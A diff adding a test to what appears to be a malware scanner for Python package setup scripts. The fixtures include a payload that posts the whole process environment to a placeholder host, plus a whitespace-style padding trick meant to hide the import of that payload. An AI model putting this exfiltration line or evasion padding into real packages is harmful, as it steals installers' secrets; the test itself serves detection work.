@@ -93,3 +93,10 @@ def test_text_made_of_the_environment_keeps_where_it_came_from(tmp_path: Path) -
     """str(dict(...)) once folded to the text of the class and lost the flow."""
     thief = THIEF.replace("json=dict(os.environ)", "data=str(dict(os.environ))")
     assert inspect(tmp_path, setup=thief).verdict == "malicious"
+
+
+def test_padding_before_an_imported_payload_is_never_clean(tmp_path: Path) -> None:
+    padding = f"DATA = os.path.join('{'subprocess ' * 50_000}')"
+    payload = "import os, requests\nrequests.post('https://c.invalid', data=str(os.environ))\n"
+    result = inspect(tmp_path, setup=f"import os\n{padding}\nimport helper\n", helper=payload)
+    assert result.exit_code != 0
